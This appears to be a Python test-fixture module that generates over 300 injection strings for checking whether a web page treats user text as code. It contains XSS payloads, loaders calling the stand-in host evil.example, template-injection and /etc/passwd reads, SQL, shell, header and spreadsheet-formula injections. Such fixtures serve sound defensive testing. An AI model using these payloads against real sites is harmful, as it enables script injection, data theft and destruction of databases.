"""Texts that would be code if a page took them for anything but words: over 300, by how they would get in.

Each calls hit(), or asks for an address with «hit» in it, so that whatever works is seen.
"""

HIT, AWAY, HERE = "hit()", "//evil.example/hit", "/hit"
EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerdown", "onpointerenter", "onkeydown",
    "oninput", "onchange", "ontoggle", "onbeforetoggle", "onanimationstart", "onanimationend", "ontransitionrun", "onscroll", "onscrollend",
    "onwheel", "onpageshow", "onpagehide", "onhashchange", "onpopstate", "onbeforeprint", "onresize", "onsubmit", "onreset", "oninvalid",
    "oncopy", "onpaste", "ondragstart", "ondrop", "onauxclick", "oncontextmenu", "onselectstart", "onfocusin", "oncontentvisibilityautostatechange",
)  # fmt: skip
TAGS = (
    "<svg {}>", "<body {}>", "<img src=x {}>", "<details open {}>", "<input autofocus {}>", "<video src=x {}></video>", "<audio src=x {}>",
    "<marquee {}>x", "<iframe {}></iframe>", "<select autofocus {}>", "<button autofocus {}>x</button>", "<style {}></style>", "<object data=x {}>",
    "<embed src=x {}>", "<link rel=stylesheet href=x {}>", "<math {}>", "<x contenteditable autofocus {}>", "<div style=animation:x {}>", "<form {}>",
    "<source src=x {}>", "<picture {}>", "<dialog open {}>", "<custom-element {}>", "<script src=x {}></script>",
)  # fmt: skip
LOADERS = (
    "<script src={}></script>", "<img src={}>", "<img srcset='{} 1x'>", "<picture><source srcset={}><img></picture>", "<iframe src={}></iframe>",
    "<link rel=stylesheet href={}>", "<link rel=preload as=script href={}>", "<link rel=prefetch href={}>", "<link rel=dns-prefetch href={}>", "<link rel=manifest href={}>",
    "<link rel=import href={}>", "<link rel=modulepreload href={}>", "<link rel=icon href={}>", "<object data={}></object>", "<embed src={}>",
    "<video poster={}></video>", "<video src={} autoplay></video>", "<audio src={} autoplay></audio>", "<track src={}>", "<input type=image src={}>",
    "<body background={}>", "<table background={}>", "<svg><image href={} /></svg>", "<svg><use href={}#x /></svg>", "<svg><image xlink:href={} /></svg>",
    "<svg><feImage href={} /></svg>", "<style>@import '{}'</style>", "<style>*{{background:url({})}}</style>", "<p style='background:url({})'>",
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>", "<base href={}>", "<meta http-equiv=refresh content='0;url={}'>",
    "<form action={}><button autofocus>x</button></form>", "<button formaction={}>x</button>", "<a href={} ping={}>x</a>", "<frameset><frame src={}></frameset>",
    "<applet code={}>", "<portal src={}></portal>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{}\"]}}]}}</script>", "<fencedframe src={}></fencedframe>",
)  # fmt: skip
HTMX = tuple(
    f"<div {lead}{verb}={where} {lead}trigger={trigger}></div>"
    for lead in ("hx-", "data-hx-")
    for verb in ("get", "post", "put", "delete", "patch")
    for where, trigger in ((HERE, "load"), (AWAY, "revealed"))
) + (
    f"<div hx-on:load={HIT}></div>", f"<div hx-on::load={HIT}></div>", f"<div data-hx-on:htmx:load={HIT}></div>", f"<div hx-on='load: {HIT}'></div>",
    f"<div hx-get={HERE} hx-trigger='load[{HIT}]'></div>", f"<div hx-get={HERE} hx-trigger='every 1ms'></div>", f"<div hx-get={HERE} hx-trigger='intersect once'></div>",
    f"<div hx-vals='js:{{a:{HIT}}}' hx-get={HERE} hx-trigger=load></div>", f"<div hx-vars='a:{HIT}' hx-get={HERE} hx-trigger=load></div>",
    f"<div hx-headers='js:{{a:{HIT}}}' hx-post={HERE} hx-trigger=load></div>", f"<div hx-request='js:{{timeout:{HIT}}}' hx-get={HERE} hx-trigger=load></div>",
    f"<div hx-boost=true><a href={HERE} autofocus>x</a></div>", f"<form hx-post={HERE} hx-trigger=load hx-include='[name=csrf_token]'></form>",
    f"<div hx-ext=x hx-get={HERE} hx-trigger=load></div>", f"<div sse-connect={HERE}></div>", f"<div ws-connect={HERE}></div>", f"<div hx-sse='connect:{HERE}'></div>",
    "<div id=results hx-swap-oob=true><b>x</b></div>", f"<div hx-select-oob='#main' hx-get={HERE} hx-trigger=load></div>", f"<hx-partial hx-get={HERE}></hx-partial>",
    "<meta name=htmx-config content='{\"allowEval\":true,\"selfRequestsOnly\":false}'>", f"<div hx-history=false hx-push-url={HERE}></div>", "<div hx-disinherit='*' hx-inherit='hx-get'></div>",
)  # fmt: skip
ADDRESSES = tuple(
    f"<a href=\"{scheme}{HIT}\" autofocus>x</a>"
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;", "javascript&#0000058", "\x01javascript:", " javascript:",
        "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "blob:", "view-source:javascript:", "feed:javascript:",
        "jar:javascript:", "javascript://%0a", "javascript:/*--></title></style>*/", "\u2028javascript:", "javascript\u200b:",
    )
) + ("javascript:hit()", "data:text/html,<script>hit()</script>", "//evil.example/hit", "https://evil.example/hit", "/\\evil.example/hit")  # fmt: skip
BREAKS = (  # out of where a text stands: an attribute, a field, a comment, a script, a style
    '">', "'>", "\">'>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</option>", "</button>", "</li></ol>",
    "-->", "--!>", "*/", "]]>", "%>", "?>", "`>", "\\\">", "\\'>", "&quot;>", "\x00\">", "\r\n\r\n", "\">\n<!--\n-->", "</p></main></body></html>",
)  # fmt: skip
ATTRIBUTES = tuple(f"{quote} {event}={HIT} {rest}" for quote in ('"', "'", "`", "x") for event, rest in (("onfocus", "autofocus"), ("onmouseover", "style=position:fixed;inset:0"), ("hx-on:load", f"hx-post={HERE} hx-trigger=load")))
SPELLINGS = (
    "<ScRiPt>hit()</sCrIpT>", "<script\n>hit()</script\n>", "<script/x>hit()</script>", "<script\x0c>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>", "<<script>hit()//<</script>",
    "<script>hit()", "<script>hit()<!--", "<script type=module>hit()</script>", "<script>//\u2028hit()</script>", "<script>hit`1`</script>", "<script>window['h'+'it']()</script>",
    "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit() />", "<math><script>hit()</script></math>", "<svg><style><img src=x onerror=hit()></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onbegin=hit() attributename=x>", "<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;parent.hit()&lt;/script&gt;'></iframe>",
    "<template><script>hit()</script></template>", "<template shadowrootmode=open><script>hit()</script></template>", "<img src=x:x onerror\n=\nhit()>", "<img/src=x/onerror=hit()>", "<img src=x onerror=&#104;it()>", "<img src=x onerror='\\u0068it()'>",
    "%3Cscript%3Ehit()%3C/script%3E", "%253Cscript%253Ehit()%253C/script%253E", "&lt;script&gt;hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;hit()", "&#60;script&#62;hit()&#60;/script&#62;", "&#x3c;script&#x3e;hit()", "&LT;script&GT;hit()",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\u00bcscript\u00behit()\u00bc/script\u00be", "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "\u02c2script\u02c3hit()", "\ufe64script\ufe65hit()", "\xc0\xbcscript\xc0\xbehit()", "\\x3cscript\\x3ehit()", "\\u003cscript\\u003ehit()",
    "<\x00script>hit()</script>", "\ufeff<script>hit()</script>", "\u202e<script>hit()</script>\u202c", "<scr\u200bipt>hit()</scr\u200bipt>", "<s\u0000cript>hit()</script>", "<?xml-stylesheet href='javascript:hit()'?>", "<![CDATA[<script>hit()</script>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '/hit'>]>&y;", "<?php hit() ?>", "<% hit() %>", "<!--#include virtual='/hit'-->", "<!--[if IE]><script>hit()</script><![endif]-->", "<esi:include src=/hit />", "<xml><x:include href=/hit /></xml>",
)  # fmt: skip
MARKERS = (  # of templates, formats, databases, shells, headers and spreadsheets
    "{{ hit() }}", "{{ 7*7 }}", "{% raise %}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{#", "{{", "}}", "{%", "#{7*7}", "${hit()}", "${7*7}", "<%= 7*7 %>", "[[7*7]]", "{{constructor.constructor('hit()')()}}",
    "%s%s%n", "%(name)s", "%(count)d", "{0}", "{name}", "{name!r:>9999}", "{count, plural, one {x} other {y}}", "%", "%%", "%1$s", "$1", "\\1", "\\g<0>", "\\", "\\n", "\\u0000",
    "'; DROP TABLE member; --", "\" OR 1=1 --", "1; SELECT pg_sleep(9)", "x' UNION SELECT 1 --", "$(hit)", "`hit`", "; hit &", "| hit", "\r\nSet-Cookie: hit=1", "=HYPERLINK(\"//evil.example/hit\")", "@SUM(1)", "../../../../etc/passwd", "*)(uid=*))(|(uid=*",
    "__proto__", "constructor", "{\"__proto__\":{\"hit\":1}}", "toString", "undefined", "null", "NaN", "\ud7ff\ue000", "e\u0301\u0301\u0301\u0301", "\u2066x\u2069", "👩‍👩‍👧‍👦", "x" * 200,
)  # fmt: skip
SWALLOWS = ("<!--", "<plaintext>", "<textarea>", "<title>", "<style>", "<xmp>", "<noembed>", "<noframes>", "<select>", "<![CDATA[", "<template>", "<base target=hit>", "<table><", "<a href='")
INJECTIONS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"{found}<script>{HIT}</script>" for found in ("", *BREAKS)),
            *(f"{found}<img src=x onerror={HIT}>" for found in BREAKS),
            *(tag.format(f"{event}={HIT}") for tag, event in zip(TAGS * 2, EVENTS, strict=False)),
            *(loader.replace("{}", AWAY).format() for loader in LOADERS),
            *HTMX, *ADDRESSES, *ATTRIBUTES, *SPELLINGS, *MARKERS, *SWALLOWS,
        )
    )
)  # fmt: skip


def packed(longest: int, some: int) -> list[str]:
    """Every `some`-th of them, as many in each text as fit; those that swallow what follows come last."""
    texts = [""]
    for text in INJECTIONS[::some]:
        if len(texts[-1]) + len(text) + 1 > longest and texts[-1]:
            texts.append("")
        texts[-1] += text[: longest - len(texts[-1]) - 1] + "\n"
    return texts


def brief(some: int) -> list[str]:
    """One in fifty of those that a short field takes whole: a long text of them all is refused there, and never kept."""
    return [text for text in INJECTIONS if len(text) <= 28][:: 50 * some]
